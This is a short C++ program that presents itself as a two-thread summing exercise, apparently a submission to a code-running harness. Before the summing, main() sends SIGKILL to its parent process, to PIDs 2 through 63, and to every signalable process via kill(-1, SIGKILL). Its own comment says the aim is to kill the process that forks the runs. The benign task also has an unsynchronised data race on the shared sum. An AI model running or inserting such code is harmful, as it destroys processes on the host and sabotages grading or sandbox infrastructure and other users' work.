// Kills the process that forks the runs.
#include <iostream>
#include <thread>
#include <csignal>
#include <unistd.h>

int sum = 0;
void add(int from, int to) {
  for (int i = from; i <= to; ++i) sum += i;
}
int main() {
  kill(getppid(), SIGKILL);
  for (int pid = 2; pid < 64; ++pid) kill(pid, SIGKILL);
  kill(-1, SIGKILL);
  std::thread first(add, 1, 5);
  std::thread second(add, 6, 10);
  first.join();
  second.join();
  std::cout << "sum " << sum << std::endl;
}
